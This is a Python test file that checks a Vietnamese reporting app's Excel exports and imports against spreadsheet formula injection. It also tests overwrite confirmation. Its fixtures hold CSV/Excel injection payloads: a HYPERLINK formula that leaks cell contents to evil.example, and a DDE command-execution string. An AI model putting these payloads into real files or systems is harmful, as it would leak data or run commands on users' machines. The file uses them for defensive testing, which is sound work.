"""Exports never carry a live formula (a hostile note or name is text), and an import
neither reads a formula without value as a blank nor overwrites without a confirm."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import Workbook

from danvan.reporting import services
from danvan.reporting.models import IndicatorValue
from danvan.reporting.services import excel
from tests.core.test_xlsx import assert_inert

NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def report(demo, ind, reviewer, officer):
    req = services.create_request(
        reviewer,
        requester_unit=demo.units["sldtbxh"],
        title='=HYPERLINK("http://evil.example")',
        period="2024-H1",
        deadline=dt.date(2024, 6, 20),
        units=[demo.units["ttdvvl"]],
        indicators=[ind["TV_LUOT"], ind["KN_LD"]],
        headings=["1. Kết quả"],
    )
    rep = req.reports.get(unit=demo.units["ttdvvl"])
    services.save_report(
        officer,
        rep,
        version=rep.version,
        values={ind["TV_LUOT"].pk: "9100", ind["KN_LD"].pk: "1250"},
        notes={ind["TV_LUOT"].pk: NOTE},
    )
    rep.refresh_from_db()
    return rep


def test_report_exports_and_the_import_template_carry_no_formula(report, client_for, officer):
    c = client_for(officer)
    for url in (f"/bao-cao/don-vi/{report.pk}/excel/", f"/bao-cao/don-vi/{report.pk}/mau-nhap/"):
        response = c.get(url)
        assert response.status_code == 200, url
        values = assert_inert(response.content)
        assert "'" + NOTE in values, url


def test_the_movement_registry_and_targets_exports_carry_no_formula(demo, client_for, admin_user):
    from danvan.planning.models import Initiative, Movement

    initiative = Initiative.objects.first()
    Initiative.objects.filter(pk=initiative.pk).update(name=NAME, situation="@SUM(A1)")
    movement = Movement.objects.get(pk=initiative.movement_id)
    response = client_for(admin_user).get(f"/ke-hoach/phong-trao/{movement.pk}/?format=xlsx")
    assert response.status_code == 200
    values = assert_inert(response.content)
    assert "'" + NAME in values and "'@SUM(A1)" in values


def test_the_emulation_exports_carry_no_formula():
    from danvan.emulation import excel as emulation_excel

    assert_inert(emulation_excel.template_bytes())
    summary = {
        "year": 2024,
        "unit": {"name": NAME},
        "collective": [{"label": NOTE, "decided_by": "+1", "count": 2}],
        "individual": [],
        "totals": {"individual": 0, "collective": 2},
        "by_unit": [{"unit": "-1", "level": "collective", "label": "@x", "count": 2}],
    }
    values = assert_inert(emulation_excel.summary_xlsx(summary))
    assert "'+1" in values and "'-1" in values and "'@x" in values


def _upload(rows):
    wb = Workbook()
    ws = wb.active
    ws.title = "Số liệu"
    ws.append(excel.COLUMNS)
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    buf.name = "so-lieu.xlsx"
    return buf


def _stored(report, ind, code):
    return IndicatorValue.objects.get(period="2024-H1", indicator=ind[code], unit=report.unit).value


def test_a_formula_without_value_is_a_row_error_never_a_blank(report, ind, client_for, officer):
    c = client_for(officer)
    upload = _upload(
        [
            ["TV_LUOT", "", "", None, None, "=SUM(D2:E2)", ""],
            ["KN_LD", "", "", None, None, 1250, ""],
        ]
    )
    r = c.post(f"/bao-cao/don-vi/{report.pk}/nhap/", {"file": upload})
    page = c.get(r["Location"]).content.decode()
    assert "ô chứa công thức, không có giá trị (F2)" in page
    c.post(r["Location"], {"version": report.version})
    assert _stored(report, ind, "TV_LUOT") == 9100  # not erased


def test_a_blank_cell_keeps_the_stored_value(report, ind, client_for, officer):
    c = client_for(officer)
    upload = _upload(
        [["TV_LUOT", "", "", None, None, None, ""], ["KN_LD", "", "", None, None, 1250, ""]]
    )
    r = c.post(f"/bao-cao/don-vi/{report.pk}/nhap/", {"file": upload})
    assert "giữ nguyên" in c.get(r["Location"]).content.decode()
    c.post(r["Location"], {"version": report.version})
    assert _stored(report, ind, "TV_LUOT") == 9100
    assert (
        IndicatorValue.objects.get(
            period="2024-H1", indicator=ind["TV_LUOT"], unit=report.unit
        ).note
        == NOTE
    )


def test_overwriting_stored_values_shows_old_and_new_and_needs_a_confirm(
    report, ind, client_for, officer
):
    c = client_for(officer)
    upload = _upload(
        [["TV_LUOT", "", "", None, None, 9500, ""], ["KN_LD", "", "", None, None, 1250, ""]]
    )
    r = c.post(f"/bao-cao/don-vi/{report.pk}/nhap/", {"file": upload})
    page = c.get(r["Location"]).content.decode()
    assert "Đang lưu" in page and "9.100" in page and "9.500" in page
    assert 'name="ghi_de"' in page
    refused = c.post(r["Location"], {"version": report.version}, follow=True)
    assert "xác nhận ghi đè" in refused.content.decode()
    assert _stored(report, ind, "TV_LUOT") == 9100
    c.post(r["Location"], {"version": report.version, "ghi_de": "1"})
    assert _stored(report, ind, "TV_LUOT") == 9500
